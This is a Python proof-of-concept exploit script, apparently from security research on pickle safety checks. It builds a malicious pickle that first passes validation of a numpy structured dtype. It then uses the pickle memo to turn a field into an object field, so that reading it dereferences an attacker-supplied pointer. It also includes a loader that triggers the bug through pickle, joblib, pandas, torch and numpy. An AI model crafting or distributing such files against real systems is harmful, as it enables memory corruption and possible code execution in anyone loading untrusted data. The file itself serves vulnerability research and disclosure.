"""F1: a structured dtype's `fields` dict is shared with numpy (numpy keeps a reference to the
dict from the BUILD state). The checks validate it when the dtype is used, but the pickle can
change it through the memo AFTER the array was checked and built: a field turns into an `O`
field over raw bytes from the file. Any access to that field dereferences pointers from the file.

Usage: python f1_fields_dict_mutation.py build FILE [ADDR]   # ADDR default 0x4141414141414141
       python f1_fields_dict_mutation.py load FILE MODE         # MODE: loads|load|Unpickler|_loads|joblib|pandas|torch|numpy
"""
import io
import pickle
import struct
import sys

sys.path.insert(0, __import__("os").path.dirname(__file__))
from pk import P  # noqa: E402


def build(addr):
    p = P(3)
    # arr = _reconstruct(ndarray, (0,), b'b')
    p.glob("numpy._core.multiarray", "_reconstruct").glob("numpy", "ndarray").i(0).t1().by(b"b").t3().reduce()
    # BUILD (1, (1,), dtype, False, 16 bytes)
    p.mark().i(1).i(1).t1()
    # the dtype V16 with fields a:<i8@0, b:<i8@8; memo 1 = its fields dict
    p.dtype("V16")
    p.mark().i(3).s("|").none().s("a").s("b").t2()
    p.empty_dict().put(1)
    p.mark().s("a").plain_dtype("i8", "<").i(0).t2().s("b").plain_dtype("i8", "<").i(8).t2().setitems()
    p.i(16).i(1).i(16).tup().build()
    p.false().by(struct.pack("<QQ", addr, 0)).tup().build()
    # now, after the checks passed and numpy built the array, change field `a` to an object field
    p.get(1).s("a").plain_dtype("O8", "|", 63).i(0).t2().setitem().pop()
    return p.stop().bytes()


def load(path, mode):
    data = open(path, "rb").read()
    if mode == "loads":
        obj = pickle.loads(data)
    elif mode == "load":
        obj = pickle.load(io.BytesIO(data))
    elif mode == "Unpickler":
        obj = pickle.Unpickler(io.BytesIO(data)).load()
    elif mode == "_loads":
        obj = pickle._loads(data)
    elif mode == "joblib":
        import joblib
        obj = joblib.load(path)
    elif mode == "pandas":
        import pandas
        obj = pandas.read_pickle(path)
    elif mode == "torch":
        import torch
        obj = torch.load(path, weights_only=False)
    elif mode == "numpy":
        import numpy
        obj = numpy.load(path, allow_pickle=True)
    print("loaded:", type(obj).__name__, obj.dtype, flush=True)
    print("field a:", obj["a"][0], flush=True)  # dereferences the pointer from the file


if __name__ == "__main__":
    if sys.argv[1] == "build":
        addr = int(sys.argv[3], 0) if len(sys.argv) > 3 else 0x4141414141414141
        open(sys.argv[2], "wb").write(build(addr))
    else:
        load(sys.argv[2], sys.argv[3])
